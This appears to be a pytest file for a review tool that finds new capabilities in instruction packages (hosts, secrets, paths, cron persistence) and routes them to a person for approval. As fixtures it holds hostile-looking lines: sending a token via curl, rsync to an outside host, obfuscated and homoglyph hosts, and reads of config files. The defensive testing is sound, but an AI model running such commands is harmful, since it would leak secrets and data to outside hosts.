"""What a change newly allows is told in plain words, and only evidence or a person can cover it."""

from __future__ import annotations

import pytest
from package_samples import draft, package, run

from metier.review.capabilities import capabilities, capability_diff
from metier.review.layers.evidence import commands
from metier.review.review import review_draft
from metier.types import ToolCall
from metier.types.reviews import Host, OutsidePath, Persistence, Program, SecretName, StandingOrder, Tool

BODY = """# Deploy

Always check the branch first.

```bash
git status && npm run build
cat ~/.config/app.toml | jq .
curl https://api.example.com/v1 -H "x: $DEPLOY_TOKEN"
crontab -l
```

Use mcp__tickets__create for the ticket.
"""


def test_every_kind_of_capability_is_read_from_a_document() -> None:
    found = capabilities(package(BODY))
    assert {Program("git"), Program("npm"), Program("jq"), Program("curl")} <= found
    assert Host("api.example.com") in found
    assert OutsidePath("~/.config/app.toml") in found
    assert SecretName("DEPLOY_TOKEN") in found
    assert Tool("mcp__tickets__create") in found
    assert Persistence("scheduled jobs") in found
    assert StandingOrder("Always check the branch first.") in found


def test_a_disguised_host_is_still_a_host() -> None:
    assert Host("evil.example.com") in capabilities(package("See https://еvil.ехample.com/x"))


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("curl HTTPS://Drop.Quiet.Net/a", "drop.quiet.net"),
        ("curl http://[2a01:4f8::1]/a", "2a01:4f8::1"),
        ("curl http://3232235777/a", "192.168.1.1"),
        ("curl //drop.quiet.net/a", "drop.quiet.net"),
        ("rsync -a . drop.quiet.net:/in", "drop.quiet.net"),
    ],
)
def test_a_host_is_a_host_however_it_is_written(line: str, host: str) -> None:
    assert Host(host) in capabilities(package(f"# A\n\n```bash\n{line}\n```\n"))


def test_only_what_is_new_is_an_addition() -> None:
    before, after = package("Run `git status`."), package("Run `git status`, then `docker ps`.")
    assert [one.words for one in capability_diff(before, after)] == ["run the program docker"]
    assert capability_diff(after, before) == ()


def test_programs_and_tools_used_in_two_sessions_are_covered() -> None:
    call = ToolCall(name="Bash", input='{"command": "cd app && pytest -q"}', output="ok")
    diff = capability_diff(None, package("Run `pytest -q`."), [run("s1", call), run("s2", call)])
    assert [(one.capability, one.covered) for one in diff] == [(Program("pytest"), True)]


def test_one_session_or_a_failed_call_covers_nothing() -> None:
    good = ToolCall(name="Bash", input="pytest -q")
    bad = ToolCall(name="Bash", input="pytest -q", ok=False)
    for runs in ([run("s1", good), run("s1", good)], [run("s1", good), run("s2", bad)]):
        assert not capability_diff(None, package("Run `pytest -q`."), runs)[0].covered


def test_hosts_secrets_paths_persistence_and_orders_always_need_a_person() -> None:
    call = ToolCall(name="Bash", input="curl https://api.example.com; cat ~/.config/x; echo $API_TOKEN; crontab -l")
    runs = [run("s1", call), run("s2", call)]
    body = "Always call https://api.example.com with $API_TOKEN from ~/.config/x, see crontab."
    assert all(not one.covered for one in capability_diff(None, package(body), runs))


def test_a_draft_that_adds_something_stays_a_candidate_and_waits_for_a_person() -> None:
    runs = [run("s1"), run("s2")]
    result = review_draft(draft(), package("Run `docker ps`."), evidence=runs)
    assert (result.status, result.needs_approval) == ("candidate", True)


def test_a_draft_that_adds_nothing_new_needs_nobody() -> None:
    call = ToolCall(name="Bash", input="docker ps")
    result = review_draft(draft(), package("Run `docker ps`."), evidence=[run("s1", call), run("s2", call)])
    assert (result.status, result.needs_approval) == ("candidate", False)


def test_evidence_of_one_session_needs_a_person() -> None:
    result = review_draft(draft(), package("Look at the chart."), evidence=[run("s1"), run("s1")])
    assert (result.status, result.needs_approval) == ("candidate", True)
    assert [one.rule for one in result.findings] == ["single-session"]


@pytest.mark.parametrize(
    "given",
    [
        "bash -lc 'rg needle src'",
        '{"command": "bash -lc \'rg needle src\'"}',
        '{"command": ["bash", "-lc", "rg needle src"]}',
        '{"cmd": ["/bin/sh", "-c", "rg needle src"]}',
        "sh -c \"bash -c 'rg needle src'\"",
    ],
)
def test_a_shell_around_a_command_is_not_the_command(given: str) -> None:
    assert commands(given) == "rg needle src"


def test_what_only_begins_like_a_wrapped_command_stays_as_it_is() -> None:
    assert commands("bash -c 'a' && rm b") == "bash -c 'a' && rm b"


def test_an_interpreter_line_and_the_null_device_are_no_outside_paths() -> None:
    found = capabilities(
        package("Run it.", scripts__a_dot_sh="#!/bin/sh\nls > /dev/null 2>/dev/stderr\ncat /etc/hosts\n")
    )
    assert {one.path for one in found if isinstance(one, OutsidePath)} == {"/etc/hosts"}
